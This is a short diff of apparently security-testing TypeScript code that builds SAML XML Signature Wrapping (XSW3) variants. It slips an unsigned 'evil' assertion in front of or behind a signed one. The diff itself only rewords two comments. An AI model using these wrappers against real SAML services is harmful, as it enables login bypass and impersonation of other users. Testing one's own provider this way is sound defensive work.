@@ -1,6 +1,6 @@
 import { newXmlId, type Said, type SamlProvider } from './saml-provider.js';
 
-/** A signed answer for the attacker, and the assertion of somebody else that is to be read in its place. */
+/** A signed answer for the attacker, and the assertion of someone else that is to be read in its place. */
 interface Wrapped {
   response: string;
   assertion: string;
@@ -15,7 +15,7 @@ const signatureIn = (xml: string) => /<ds:Signature[\s\S]*?<\/ds:Signature>|<Sig
 const inside = (xml: string, more: string) => xml.replace(/(<\/[\w:]+>)$/, `${more}$1`);
 const object = (xml: string) => `<Object xmlns="http://www.w3.org/2000/09/xmldsig#">${xml}</Object>`;
 
-/** Where the signed assertion goes, and where the one that nobody signed. */
+/** Where the signed assertion goes, and where the one that no one signed. */
 const OF_ASSERTION: Record<string, (w: Wrapped) => string> = {
   'XSW3: before the signed one': ({ response, assertion, evil }) => response.replace(assertion, evil() + assertion),
   'XSW3: behind the signed one': ({ response, assertion, evil }) => response.replace(assertion, assertion + evil()),
